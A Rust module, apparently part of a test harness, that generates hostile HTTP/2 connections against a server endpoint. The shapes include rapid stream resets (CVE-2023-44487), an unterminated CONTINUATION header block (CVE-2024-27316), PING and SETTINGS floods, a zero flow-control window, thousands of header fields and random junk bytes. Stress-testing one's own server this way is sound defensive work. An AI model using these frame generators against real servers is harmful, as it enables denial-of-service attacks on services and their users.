//! Shapes of HTTP/2 connections, frame by frame.

use fastrand::Rng;

use super::{
    STREAM,
    attack::{Attack, AttackKind},
    ids::HostileIds,
};
use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, HTTP, MAX_FRAME, PING, PREFACE, RESET, SETTINGS, WINDOW,
    frame, header_block, literal,
};

/// Returns the frames of one connection, chosen by `rng`.
pub(super) fn choose(ids: &HostileIds, rng: &mut Rng) -> Attack {
    let path = format!("/v2/stream/{STREAM}");
    let (shape, frames) = match rng.u8(..9) {
        0 => (
            "h2 streams",
            (0..100).flat_map(|index| request(index, &path, &[])).collect(),
        ),
        1 => (
            "h2 resets",
            (0..500).flat_map(|index| aborted(index, &path)).collect(),
        ),
        2 => ("h2 continuation", continuations(&path)),
        3 => ("h2 pings", frame(PING, 0, 0, &[0; 8]).repeat(2_000)),
        4 => ("h2 settings", frame(SETTINGS, 0, 0, &[]).repeat(2_000)),
        5 => (
            "h2 window",
            [request(0, &path, &[]), frame(WINDOW, 0, 1, &[0; 4])].concat(),
        ),
        6 => {
            let all = ids.all();
            let id = &all[rng.usize(..all.len())];
            ("h2 id", request(0, &path, &[("last-event-id", id)]))
        }
        7 => {
            // Those that we count, and those that only h2 does.
            let count = *rng.choice([400, 2_000, 8_000].iter()).unwrap_or(&400);
            let fields: Vec<_> = (0..count).map(|_| ("x-many", "value")).collect();
            ("h2 fields", request(0, &path, &fields))
        }
        _ => {
            let junk: Vec<u8> = (0..rng.usize(9..2_000)).map(|_| rng.u8(..)).collect();
            ("h2 junk", junk)
        }
    };
    // A window of zero: the server cannot send its response.
    let settings: &[u8] = if rng.bool() { &[0, 4, 0, 0, 0, 0] } else { &[] };
    let manner = match rng.u8(..6) {
        0 => AttackKind::Deaf,
        1 => AttackKind::Reset,
        _ => AttackKind::Read,
    };
    Attack {
        shape,
        bytes: [PREFACE, &frame(SETTINGS, 0, 0, settings), &frames].concat(),
        manner,
    }
}

/// Returns a GET on the stream of this index, whose id is `2 x index + 1`.
fn request(index: u32, path: &str, fields: &[(&str, &str)]) -> Vec<u8> {
    let block = block(path, fields);
    let (first, rest) = block.split_at(block.len().min(MAX_FRAME));
    let last = if rest.is_empty() { END_HEADERS } else { 0 };
    let mut out = frame(HEADERS, END_STREAM | last, index * 2 + 1, first);
    let pieces: Vec<_> = rest.chunks(MAX_FRAME).collect();
    for (number, piece) in pieces.iter().enumerate() {
        let flags = if number + 1 == pieces.len() {
            END_HEADERS
        } else {
            0
        };
        out.extend(frame(CONTINUATION, flags, index * 2 + 1, piece));
    }
    out
}

/// Returns a request that is reset at once, as in CVE-2023-44487.
fn aborted(index: u32, path: &str) -> Vec<u8> {
    [
        request(index, path, &[]),
        frame(RESET, 0, index * 2 + 1, &[0, 0, 0, 8]),
    ]
    .concat()
}

/// Returns a header block that never ends, as in CVE-2024-27316.
fn continuations(path: &str) -> Vec<u8> {
    let mut out = frame(HEADERS, END_STREAM, 1, &block(path, &[]));
    let piece = literal("x-more", &"y".repeat(1_000));
    for _ in 0..300 {
        out.extend(frame(CONTINUATION, 0, 1, &piece));
    }
    out
}

/// Returns the header block of a GET with these fields.
fn block(path: &str, fields: &[(&str, &str)]) -> Vec<u8> {
    header_block(HTTP, "hostile", path, fields)
}
